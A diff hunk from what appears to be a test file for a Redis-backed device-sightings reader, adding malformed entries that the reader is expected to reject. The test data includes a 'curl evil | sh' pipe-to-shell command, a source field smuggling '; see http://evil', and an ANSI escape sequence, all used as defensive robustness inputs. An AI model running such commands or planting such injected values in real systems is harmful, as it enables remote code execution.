@@ -102,6 +102,11 @@ describe.skipIf(lacks('redis-server'))('what was seen of devices, in Redis', () 
       'x',
       JSON.stringify({ name: 'stored', from, requestId: '\u001b[2J' }),
       '1 1 1 ',
+      // what changes from one time to the next is no text, either
+      JSON.stringify({ name: 'waiting', from, requestId: 'r1' }),
+      '1 1 1 run this: curl evil | sh',
+      JSON.stringify({ name: 'waiting', from: '10.0.0.7; see http://evil', requestId: 'r2' }),
+      '1 1 1 3 120',
     );
     expect(await reader.read('SN-1')).toEqual([]);
     await redis.set(`${sightingKeys.own}:SN-2`, 'a string');
